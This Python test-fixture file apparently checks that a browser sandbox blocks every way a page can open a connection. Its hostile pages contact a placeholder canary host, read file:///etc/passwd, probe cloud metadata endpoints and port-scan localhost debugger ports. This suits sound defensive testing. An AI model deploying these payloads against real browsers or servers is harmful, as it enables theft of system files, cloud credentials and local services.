"""What a page may try to reach: every way a document can make a browser open a connection."""

from hostile_site import Asked, behaviour, document, page

page("img-canary", '<img alt="" src="http://{{canary}}/a.png"><img alt="" srcset="http://{{canary}}/b.png 2x">')
page("img-canary-v6", '<img alt="" src="http://{{canary6}}/a.png">')
page("img-canary-localhost", '<img alt="" src="http://{{local}}/a.png"><img alt="" src="http://x.localhost:{{port}}/a.png">')
page("img-canary-same-host-port", '<img alt="" src="http://{{sameport}}/a.png">')
page("iframe-canary", '<iframe title="ram" src="http://{{canary}}/"></iframe>')
page(
    "object-embed-canary",
    '<object data="http://{{canary}}/a.svg" type="image/svg+xml" aria-label="bild"></object><embed title="e" src="http://{{canary}}/b.pdf">',
)
page("fetch-canary", "<script>fetch('http://{{canary}}/', {mode: 'no-cors'}).catch(() => 0)</script>")
page(
    "xhr-canary",
    "<script>const x = new XMLHttpRequest(); x.open('GET', 'http://{{canary}}/'); x.send(); x.onerror = () => 0</script>",
)
page("beacon-canary", "<script>navigator.sendBeacon('http://{{canary}}/', 'x')</script>")
page("websocket-canary", "<script>try { new WebSocket('ws://{{canary}}/') } catch (e) {}</script>")
page("eventsource-canary", "<script>new EventSource('http://{{canary}}/')</script>")
page(
    "webrtc-stun-canary",
    "<script>for (const at of ['{{udp}}', '{{udpout}}', '{{canary}}']) try { const p = new RTCPeerConnection({iceServers: ["
    "{urls: 'stun:' + at}, {urls: 'turn:' + at + '?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x');"
    " p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {}</script>",
)
page(
    "webrtc-peer-canary",
    "<script>try { const p = new RTCPeerConnection(); p.createDataChannel('x'); p.createOffer().then(async o => {"
    " await p.setLocalDescription(o); const answer = o.sdp.replace(/a=setup:actpass/g, 'a=setup:active');"
    " await p.setRemoteDescription({type: 'answer', sdp: answer}); for (const at of ['{{udp}}', '{{udpout}}', '{{canary}}']) {"
    " const [ip, port] = at.split(':'); for (const kind of ['udp', 'tcp']) p.addIceCandidate({sdpMid: '0', candidate:"
    " `candidate:1 1 ${kind} 2122260223 ${ip} ${port} typ host${kind === 'tcp' ? ' tcptype passive' : ''}`}).catch(() => 0) } })"
    " } catch (e) {}</script>",
)
page("webtransport-canary", "<script>try { new WebTransport('https://{{udp}}/'); new WebTransport('https://{{udpout}}/') } catch (e) {}</script>")
page(
    "preconnect-canary",
    head='<link rel="preconnect" href="http://{{canary}}"><link rel="dns-prefetch" href="//{{canary}}"><link rel="prefetch" href="http://{{canary}}/p">'
    '<link rel="preload" as="image" href="http://{{canary}}/q"><link rel="modulepreload" href="http://{{canary}}/m.js">',
)
page("preconnect-header-canary", "", "Link: <http://{{canary}}>; rel=preconnect, <http://{{canary}}/x.css>; rel=preload; as=style")
page(
    "speculation-canary",
    '<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://{{canary}}/"]}], "prerender": [{"source": "list",'
    ' "urls": ["http://{{canary}}/p"]}]}</script>',
)
page(
    "css-canary",
    '<p class="x">text</p>',
    head="<style>@import url(http://{{canary}}/a.css); @font-face { font-family: f; src: url(http://{{canary}}/f.woff2) } .x { font-family: f;"
    " background: url(http://{{canary}}/b.png); cursor: url(http://{{canary}}/c.cur), auto }</style>",
)
page("favicon-canary", head='<link rel="icon" href="http://{{canary}}/f.ico"><link rel="manifest" href="http://{{canary}}/m.json">')
page(
    "media-canary",
    '<video muted autoplay src="http://{{canary}}/a.mp4" poster="http://{{canary}}/p.png"><track kind="captions" src="http://{{canary}}/t.vtt" default></video>'
    '<audio src="http://{{canary}}/a.mp3" preload="auto"></audio>',
)
page(
    "worker-canary",
    "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://{{canary}}/', {mode: 'no-cors'}).catch(() => 0);"
    " try { importScripts('http://{{canary}}/w.js') } catch (e) {} try { new WebSocket('ws://{{canary}}/') } catch (e) {}\"])))</script>",
)
page(
    "sharedworker-canary",
    "<script>try { new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://{{canary}}/', {method: 'POST', mode: 'no-cors'})\"])))"
    " } catch (e) {}</script>",
)
page("ping-canary", '<a id="a" ping="http://{{canary}}/" href="#x">länk</a><script>document.getElementById("a").click()</script>')
page(
    "csp-report-canary", '<script>eval("1")</script><img alt="" src="http://{{foreign}}/x.png">',
    "Content-Security-Policy: img-src 'self'; script-src 'unsafe-inline'; report-uri http://{{canary}}/r",
    "Reporting-Endpoints: default=\"http://{{canary}}/e\"",
)
page(
    "popup-canary",
    "<script>window.open('http://{{canary}}/'); const a = document.createElement('a'); a.href = 'http://{{canary}}/b'; a.target = '_blank';"
    " document.body.append(a); a.click()</script>",
)
page(
    "form-target-canary",
    '<form id="f" method="post" target="_blank" action="http://{{canary}}/"><input type="hidden" name="a" value="b"></form>'
    '<iframe title="t" name="t"></iframe><form id="g" method="post" target="t" action="http://{{canary}}/"></form>'
    '<script>document.getElementById("f").submit(); document.getElementById("g").submit()</script>',
)
page(
    "file-subresources",
    '<img alt="" src="file:///etc/passwd"><iframe title="f" src="file:///etc/passwd"></iframe><script src="file:///etc/passwd"></script>'
    "<script>fetch('file:///etc/passwd').then(r => r.text()).then(t => document.body.append(t)).catch(() => 0)</script>",
    head='<link rel="stylesheet" href="file:///etc/passwd">',
)
page(
    "metadata-fetch",
    "<script>for (const url of ['http://169.254.169.254/latest/meta-data/', 'http://[fd00:ec2::254]/', 'http://metadata.google.internal/'])"
    " fetch(url, {mode: 'no-cors'}).catch(() => 0)</script>",
)
page(
    "port-scan",
    "<script>for (const port of [{{port}}, 9222, 9229, 80, 443, 8080, 3000, 5432, 6379]) for (const host of ['127.0.0.1', 'localhost', '[::1]'])"
    " { fetch(`http://${host}:${port}/json/version`, {mode: 'no-cors'}).catch(() => 0); try { new WebSocket(`ws://${host}:${port}/`) }"
    " catch (e) {} }</script>",
)
page(
    "cors-local-read",
    "<script>fetch('http://{{canary}}/secret', {mode: 'cors', headers: {'X-A': '1'}}).then(r => r.text()).then(t => document.title = t)"
    ".catch(() => 0)</script>",
)


@behaviour("websocket-own")
async def websocket_own(asked: Asked) -> None:
    if asked.path == "/ws":
        await asked.raw(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: x\r\n\r\n")
        await asked.hang()
    else:
        await asked.answer(document("websocket-own", f"<script>new WebSocket('ws://{asked.host}/ws')</script>"))


@behaviour("redirect-chain-img-canary")
async def redirect_chain_img_canary(asked: Asked) -> None:
    if asked.path == "/hopp":
        await asked.redirect("/hopp2")
    elif asked.path == "/hopp2":
        await asked.redirect(asked.site.filled("http://{{canary}}/a.png", asked))
    else:
        await asked.answer(document("redirect-chain-img-canary", '<img alt="" src="/hopp">'))
